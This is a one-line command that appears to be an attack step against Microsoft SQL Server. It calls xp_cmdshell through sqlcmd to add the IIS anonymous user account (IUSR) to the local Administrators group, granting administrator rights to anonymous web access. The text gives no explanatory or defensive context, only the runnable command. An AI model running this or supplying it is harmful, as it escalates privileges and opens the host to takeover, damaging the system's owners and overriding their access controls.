sqlcmd -S localhost -Q "EXEC xp_cmdshell 'net localgroup Administrators IUSR /add'"
